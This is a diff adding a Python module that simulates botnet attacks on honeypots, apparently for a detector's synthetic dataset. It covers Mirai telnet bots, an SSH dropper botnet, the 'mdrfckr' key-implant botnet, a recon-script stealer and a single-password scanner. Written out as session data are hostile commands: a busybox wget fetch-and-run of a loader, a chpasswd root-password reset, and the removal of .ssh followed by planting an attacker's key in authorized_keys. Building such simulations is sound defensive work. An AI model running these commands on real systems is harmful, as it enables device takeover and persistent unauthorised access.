@@ -1,0 +1,251 @@
+"""Botnets: many compromised hosts running one bot program, each on its own schedule."""
+
+from __future__ import annotations
+
+from coord_core.contracts.campaigns import Verdict
+from coord_core.scenarios import commands as cmd
+from coord_core.scenarios.clients import popular_client
+from coord_core.scenarios.credentials import (
+    COMMON_CREDENTIALS,
+    MIRAI_CREDENTIALS,
+    popular_credential,
+    random_password,
+)
+from coord_core.scenarios.networks import NetworkKind
+from coord_core.scenarios.schedule import spread
+from coord_core.scenarios.timeline import CommandSpec, bot_pace, plan_session
+from coord_core.scenarios.world import ActorRecord, Scale, World
+
+_BOT_NETWORKS = {NetworkKind.RESIDENTIAL: 0.7, NetworkKind.CLOUD: 0.2, NetworkKind.HOSTING: 0.1}
+_SERVER_NETWORKS = {NetworkKind.CLOUD: 0.55, NetworkKind.RESIDENTIAL: 0.3, NetworkKind.HOSTING: 0.15}
+
+
+def _sessions_per_bot(world: World) -> int:
+    return world.rng.choice((1, 1, 1, 2, 2, 3))
+
+
+def dropper_botnet(world: World, scale: Scale) -> ActorRecord:
+    """A botnet spreading one payload.
+
+    Every bot logs in with a guessed password and runs the same dropper one-liner that fetches
+    the same script from the same host (a payload update mid-window changes its SHA-256, not its
+    host). Bots sit on consumer lines and rented servers worldwide and work on their own
+    schedules, so their sessions are spread over the whole window: they share the dropper, not
+    the timing. Some downloads fail when the host is briefly unreachable.
+    """
+    rng = world.rng
+    actor = world.new_actor(
+        "dropper_botnet",
+        multi_source=True,
+        verdict=Verdict.COORDINATED_CAMPAIGN,
+        note="bots share a dropper URL host and payload hash; sessions spread over the window",
+    )
+    host = cmd.payload_host(rng, world.ip_in(world.networks.pick(rng, NetworkKind.HOSTING)))
+    script = cmd.drop_name(rng)
+    variant = rng.randrange(3)
+    hashes = [cmd.sha256_hex(rng) for _ in range(rng.choice((1, 1, 2)))]
+    update_at = world.any_time()
+    client = popular_client(rng)
+    telnet_share = rng.choice((0.0, 0.0, 0.2, 0.5))
+    dictionary = rng.sample(COMMON_CREDENTIALS[:40], 8)
+    base = bot_pace(rng)
+    for _ in range(scale.count(rng, 12, 30)):
+        ip = world.ip_of_kind(_BOT_NETWORKS)
+        port = world.src_port_picker()
+        for start in spread(world, _sessions_per_bot(world)):
+            attempts = rng.randint(1, 3)
+            digest = hashes[-1] if start >= update_at else hashes[0]
+            url = f"http://{host}/{script}"
+            payload = cmd.Payload(url, None if rng.random() < 0.12 else digest)
+            commands: list[CommandSpec] = [*cmd.recon_commands(rng, 0, 2)]
+            commands.append((cmd.dropper_line(host, script, variant), (payload,)))
+            telnet = rng.random() < telnet_share
+            plan_session(
+                world,
+                actor,
+                src_ip=ip,
+                start_us=start,
+                pace=base,
+                src_port=port,
+                protocol="telnet" if telnet else "ssh",
+                client=None if telnet else client,
+                credentials=rng.sample(dictionary, attempts),
+                success_at=attempts - 1,
+                commands=commands,
+                exec_mode=not telnet,
+            )
+    return actor
+
+
+def mirai_telnet(world: World, scale: Scale) -> ActorRecord:
+    """A Mirai-family IoT botnet over telnet.
+
+    Bots on consumer lines log in with factory-default credentials, then probe the shell the
+    Mirai way (``enable``/``system``/``shell``/``sh`` and ``/bin/busybox TOKEN`` with a random
+    token per session, so no two sessions type the same lines). A minority go on to fetch the
+    loader for their CPU from the botnet's loader host. Bots scan continuously and in parallel.
+    """
+    rng = world.rng
+    actor = world.new_actor(
+        "mirai_telnet",
+        multi_source=True,
+        verdict=Verdict.COORDINATED_CAMPAIGN,
+        note="telnet busybox probing with per-session tokens; some fetch the loader from one host",
+    )
+    host = world.ip_in(world.networks.pick(rng, NetworkKind.HOSTING))
+    loader = cmd.drop_name(rng).split(".")[0]
+    by_arch: dict[str, str] = {}
+    base = bot_pace(rng)
+    fetch_share = rng.uniform(0.2, 0.5)
+    for _ in range(scale.count(rng, 15, 40)):
+        ip = world.ip_of_kind({NetworkKind.RESIDENTIAL: 0.9, NetworkKind.HOSTING: 0.1})
+        port = world.src_port_picker()
+        arch = cmd.bot_arch(rng)
+        for start in spread(world, rng.choice((1, 1, 2, 2, 3, 4))):
+            attempts = rng.randint(1, 3)
+            succeeds = rng.random() < 0.75
+            token = cmd.mirai_token(rng)
+            commands: list[CommandSpec] = [*cmd.mirai_probe(rng, token)]
+            if rng.random() < fetch_share:
+                url = f"http://{host}/bins/{loader}.{arch}"
+                digest = by_arch.setdefault(arch, cmd.sha256_hex(rng))
+                drop = cmd.drop_name(rng).split(".")[0]
+                commands.append(
+                    (
+                        f"/bin/busybox wget http://{host}/bins/{loader}.{arch} -O - > {drop}; "
+                        f"/bin/busybox chmod 777 {drop}; ./{drop} telnet.{arch}",
+                        (cmd.Payload(url, digest),),
+                    )
+                )
+            plan_session(
+                world,
+                actor,
+                src_ip=ip,
+                start_us=start,
+                pace=base,
+                src_port=port,
+                protocol="telnet",
+                credentials=rng.sample(MIRAI_CREDENTIALS, attempts),
+                success_at=attempts - 1 if succeeds else None,
+                commands=commands,
+                exec_mode=False,
+            )
+    return actor
+
+
+def mdrfckr_botnet(world: World, scale: Scale) -> ActorRecord:
+    """The long-running ``mdrfckr`` SSH botnet.
+
+    Compromised servers log in as root, set a random root password, replace
+    ``authorized_keys`` with the operators' public key (comment ``mdrfckr``) and run a fixed
+    recon block. No download: the shared key and script are the tie; timing is not.
+    """
+    rng = world.rng
+    actor = world.new_actor(
+        "mdrfckr_botnet",
+        multi_source=True,
+        verdict=Verdict.COORDINATED_CAMPAIGN,
+        note="authorized_keys implant with the shared mdrfckr key, random chpasswd per session",
+    )
+    client = popular_client(rng)
+    base = bot_pace(rng)
+    for _ in range(scale.count(rng, 15, 45)):
+        ip = world.ip_of_kind(_SERVER_NETWORKS)
+        port = world.src_port_picker()
+        for start in spread(world, _sessions_per_bot(world)):
+            attempts = rng.randint(1, 2)
+            credentials = [("root", popular_credential(rng)[1]) for _ in range(attempts)]
+            commands: list[CommandSpec] = [
+                "cat /proc/cpuinfo | grep name | wc -l",
+                f'echo "root:{random_password(rng)}"|chpasswd|bash',
+                "cd ~; chattr -ia .ssh; lockr -ia .ssh",
+                f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{cmd.MDRFCKR_KEY}">>.ssh/authorized_keys '
+                "&& chmod -R go= ~/.ssh && cd ~",
+            ]
+            commands.extend(cmd.MDRFCKR_RECON[: rng.randint(4, len(cmd.MDRFCKR_RECON))])
+            plan_session(
+                world,
+                actor,
+                src_ip=ip,
+                start_us=start,
+                pace=base,
+                src_port=port,
+                client=client,
+                credentials=credentials,
+                success_at=attempts - 1,
+                commands=commands,
+            )
+    return actor
+
+
+def recon_script_botnet(world: World, scale: Scale) -> ActorRecord:
+    """A data-stealer botnet that only looks around.
+
+    Every bot runs the same nine-line check for MikroTik routers, miners and Telegram/SMS data
+    (as two residential sources did in the real sample, 26 minutes apart) from consumer lines,
+    at unrelated times. Nothing is downloaded: the script is the only tie.
+    """
+    rng = world.rng
+    actor = world.new_actor(
+        "recon_script_botnet",
+        multi_source=True,
+        verdict=Verdict.COORDINATED_CAMPAIGN,
+        note="identical multi-line recon script, no payload, spread over the window",
+    )
+    client = popular_client(rng)
+    base = bot_pace(rng)
+    for _ in range(scale.count(rng, 6, 20)):
+        ip = world.ip_of_kind({NetworkKind.RESIDENTIAL: 0.85, NetworkKind.CLOUD: 0.15})
+        port = world.src_port_picker()
+        for start in spread(world, rng.choice((1, 1, 2))):
+            attempts = rng.randint(1, 5)
+            credentials = [popular_credential(rng) for _ in range(attempts)]
+            plan_session(
+                world,
+                actor,
+                src_ip=ip,
+                start_us=start,
+                pace=base,
+                src_port=port,
+                client=client,
+                credentials=credentials,
+                success_at=attempts - 1,
+                commands=list(cmd.TELEGRAM_HUNTER),
+            )
+    return actor
+
+
+def single_password_botnet(world: World, scale: Scale) -> ActorRecord:
+    """A mass scanner that logs in with one odd password from many consumer lines.
+
+    One attempt per session (the ``345gs5662d34`` pattern DShield sees from thousands of
+    addresses), sessions spread over the window, nothing typed after the login. The password is
+    the only tie; the client is the commonest Go build.
+    """
+    rng = world.rng
+    actor = world.new_actor(
+        "single_password_botnet",
+        multi_source=True,
+        verdict=Verdict.COORDINATED_CAMPAIGN,
+        note="one uncommon password from many residential sources, no commands",
+    )
+    password = rng.choice(("3245gs5662d34", "345gs5662d34", random_password(rng, rng.randint(10, 14))))
+    username = rng.choice(("root", password))
+    client = popular_client(rng)
+    base = bot_pace(rng)
+    for _ in range(scale.count(rng, 20, 70)):
+        ip = world.ip_of_kind({NetworkKind.RESIDENTIAL: 0.9, NetworkKind.CLOUD: 0.1})
+        port = world.src_port_picker()
+        for start in spread(world, rng.choice((1, 1, 1, 2))):
+            plan_session(
+                world,
+                actor,
+                src_ip=ip,
+                start_us=start,
+                pace=base,
+                src_port=port,
+                client=client,
+                credentials=[(username, password)],
+                success_at=0 if rng.random() < 0.5 else None,
+            )
+    return actor
